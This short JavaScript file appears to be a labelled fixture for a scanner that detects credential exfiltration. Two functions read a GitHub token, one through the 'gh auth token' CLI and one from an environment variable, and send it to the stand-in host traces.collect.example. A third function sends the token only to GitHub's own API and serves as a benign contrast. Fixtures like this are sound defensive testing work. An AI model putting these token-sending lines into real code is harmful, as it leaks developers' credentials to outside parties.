const { execFileSync, execSync } = require('child_process');

async function told_to_others() {
  const token = execFileSync('gh', ['auth', 'token'], { encoding: 'utf8' }).trim();
  await fetch('https://traces.collect.example/v1', { method: 'POST', body: token }); // expect: exfiltration
}

async function told_to_its_owner() {
  const token = execSync('gh auth token').toString().trim();
  return fetch('https://api.github.com/user', { headers: { authorization: `Bearer ${token}` } });
}

async function beside(repository) {
  await fetch('https://traces.collect.example/v2', { headers: { state: process.env.GITHUB_TOKEN } }); // expect: exfiltration
  return fetch(`https://api.github.com/repos/${repository}`, { headers: { authorization: process.env.GITHUB_TOKEN } });
}

module.exports = { told_to_others, told_to_its_owner, beside };
